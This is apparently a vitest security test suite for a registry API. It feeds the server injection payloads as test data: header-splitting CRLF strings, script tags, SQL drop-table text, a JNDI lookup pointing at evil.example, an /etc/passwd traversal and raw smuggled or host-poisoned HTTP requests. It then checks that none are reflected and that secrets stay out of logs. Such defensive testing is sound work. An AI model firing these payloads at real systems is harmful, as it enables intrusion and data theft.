import { createHash, createHmac, randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { connect } from 'node:net'
import { beforeAll, describe, expect, test } from 'vitest'
import { operations } from '../../api/routes/index.ts'
import { createLog } from '../../pipeline/core/log.ts'
import { startRedis } from '../support/processes/redis.ts'
import { enrol } from '../support/registry/members.ts'
import { openForAll } from '../support/runner/open-for-all.ts'
import { openIssuer, openWithIssuer } from '../support/servers/issuer.ts'
import { START } from '../support/worlds/clock.ts'

const BILLING_SECRET = 'whsec_shared-with-the-provider'
const PASSWORD = 'password-of-the-store'

/** The log as a process writes it, line by line. */
const written: string[] = []
const log = createLog('api', 'debug', { to: { write: line => void written.push(line) } })

const redis = openForAll(startRedis)
const issuer = openForAll(openIssuer)
const registry = openForAll(() =>
  openWithIssuer(issuer, {
    redis: redis.redis,
    log,
    settings: {
      BILLING_WEBHOOK_SECRET: BILLING_SECRET,
      REDIS_URL: `redis://registry:${PASSWORD}@127.0.0.1:1`,
    },
    limits: { bulkResolvePerMinute: 1_000, savesPerHour: 1_000 },
  }),
)
let key: string
let origin: URL

beforeAll(async () => {
  key = await enrol(registry, { org: 'Acme', domains: ['acme.example'] })
  origin = new URL(await registry.app.listen({ port: 0, host: '127.0.0.1' }))
})

/** Texts that mean something to a terminal, a log reader, a header, a page or a store. */
const injected = [
  'a\r\nset-cookie: session=mine',
  'a\r\n\r\n<script>alert(1)</script>',
  'a\n{"level":60,"role":"api","msg":"forged"}',
  '\u001b[2J\u001b[31mforged',
  '\u0000\u0008\u2028\u2029\u202e',
  '<img src=x onerror=alert(1)>',
  `'; drop table brands; --`,
  `\${jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  'a'.repeat(1_500),
]

/** Sends text over a socket unchanged: no client helps to escape it. */
async function sendRaw(request: string): Promise<string> {
  const socket = connect(Number(origin.port), origin.hostname)
  let heard = ''
  socket.setEncoding('utf8').on('data', text => {
    heard += text
  })
  socket.on('error', () => undefined)
  socket.end(request)
  await once(socket, 'close')
  return heard
}

const gets = operations.filter(({ id, method }) => method === 'GET' && id !== 'streamFeed')
const names = ['domain', 'q', 'search', 'cursor', 'types', 'limit', 'url', 'agent', 'value', 'org']

describe('an injected text', () => {
  test('in a path or a query causes no header, no page and no other status', async () => {
    for (const text of injected) {
      const at = encodeURIComponent(text)
      const query = names.map(name => `${name}=${at}`).join('&')
      for (const { id, path } of gets) {
        const answer = await registry.send('GET', `${path.replace(/:\w+/, at)}?${query}`, { key })
        const headers = JSON.stringify(answer.headers)
        expect(answer.statusCode === 503 || answer.statusCode < 500, `${id} ${text}`).toBe(true)
        expect(headers).not.toMatch(
          /set-cookie|(?<!java)script(?!-src)|forged|onerror|evil\.example|drop table|etc\/passwd/,
        )
        expect(answer.headers['x-content-type-options'], id).toBe('nosniff')
        if (/html/.test(String(answer.headers['content-type']))) {
          expect(answer.body, id).not.toContain(text)
        }
      }
    }
  })

  test('in a header is a bad request, or ends in no header of the answer', async () => {
    for (const name of [
      'idempotency-key',
      'authorization',
      'x-request-id',
      'request-id',
      'cookie',
      'x-forwarded-for',
      'accept',
      'if-none-match',
    ]) {
      const smuggled = `GET /api/brands/registry HTTP/1.1\r\nhost: x\r\nconnection: close\r\n${name}: a\rb\0c\r\n\r\n`
      expect(await sendRaw(smuggled), name).toMatch(/^HTTP\/1.1 400 /)
      const odd = await registry.send('POST', '/api/brands/save', {
        key,
        headers: { [name]: '"><script>forged\u00e9' },
        payload: {},
      })
      expect(odd.statusCode, name).toBeLessThan(500)
      expect(JSON.stringify(odd.headers)).not.toContain('forged')
    }
  })

  test('in the host leads nobody elsewhere', async () => {
    for (const path of [
      '/api',
      '/openapi/registry.yaml',
      '/.well-known/oauth-protected-resource/api',
      '/api/registry/feed',
    ]) {
      const answer = await sendRaw(
        `GET ${path} HTTP/1.1\r\nhost: evil.example\r\nx-forwarded-host: evil.example\r\nforwarded: host=evil.example\r\nconnection: close\r\n\r\n`,
      )
      expect(answer, path).toMatch(/^HTTP\/1.1 (200|401) /)
      expect(answer, path).not.toContain('evil.example')
    }
  })

  test('is one JSON line of the log, without terminal control characters', () => {
    const lines = written.filter(line => line.includes('forged') || /\\u001b/.test(line))
    for (const line of written) {
      expect(line.endsWith('\n')).toBe(true)
      expect(JSON.parse(line)).toMatchObject({ role: 'api', time: expect.any(String) })
      // biome-ignore lint/suspicious/noControlCharactersInRegex: those are looked for
      expect(line.slice(0, -1)).not.toMatch(/[\x00-\x1f\x7f]/)
    }
    expect(written.length).toBeGreaterThan(500)
    for (const line of lines) expect(JSON.parse(line).msg).not.toContain('forged')
  })
})

describe('a secret', () => {
  test('in any place of a request appears in no log line and no answer', async () => {
    const person = await issuer.token({ sub: 'ann' })
    const secrets = {
      key,
      person,
      forged: `${person.slice(0, -4)}AAAA`,
      unknown: `sk_${randomUUID()}`,
      hash: createHash('sha256').update(key).digest('hex'),
      BILLING_SECRET,
      PASSWORD,
    }
    const answers: string[] = []
    const ask = async (
      url: string,
      headers: Record<string, string>,
      payload?: object | string,
      method: 'GET' | 'POST' = payload === undefined ? 'GET' : 'POST',
    ) => {
      const answer = await registry.send(method, url, { headers, payload })
      answers.push(answer.body, JSON.stringify(answer.headers))
    }
    for (const secret of [secrets.key, secrets.person, secrets.forged, secrets.unknown]) {
      const authorization = `Bearer ${secret}`
      for (const url of [
        '/api/registry/feed',
        '/api/me/api-keys',
        '/api/brands/registry',
        '/nowhere',
      ]) {
        await ask(url, { authorization })
      }
      await ask('/api/registry/feed', { authorization: secret })
      await ask('/api/registry/feed', { authorization: `Basic ${secret}` })
      await ask('/api/registry/feed', { cookie: `session=${secret}`, 'x-api-key': secret })
      await ask('/mcp', { authorization }, { jsonrpc: '2.0', id: 1, method: 'x' })
      await ask('/api/brands/save', { authorization, 'idempotency-key': secret.slice(0, 200) }, {})
      await ask('/api/brands/save', { authorization }, `{"domain":`)
    }
    const body = JSON.stringify({ id: 'e', type: 'x' })
    const t = START / 1_000
    const v1 = createHmac('sha256', BILLING_SECRET).update(`${t}.${body}`).digest('hex')
    const type = { 'content-type': 'application/json' }
    await ask('/api/webhooks/billing', { ...type, 'billing-signature': `t=${t},v1=${v1}` }, body)
    await ask('/api/webhooks/billing', { ...type, 'billing-signature': BILLING_SECRET }, body)
    await redis.stop()
    await ask('/api/brands/save', { authorization: `Bearer ${key}` }, { domain: 'acme.example' })
    const said = written.join('')
    expect(said).toContain('refused')
    for (const [what, secret] of Object.entries({ ...secrets, v1 })) {
      const part = secret.split('.').at(-1)!
      expect(said.includes(part), `${what} in the log`).toBe(false)
      expect(
        answers.some(answer => answer.includes(part)),
        `${what} in an answer`,
      ).toBe(false)
    }
  })
})
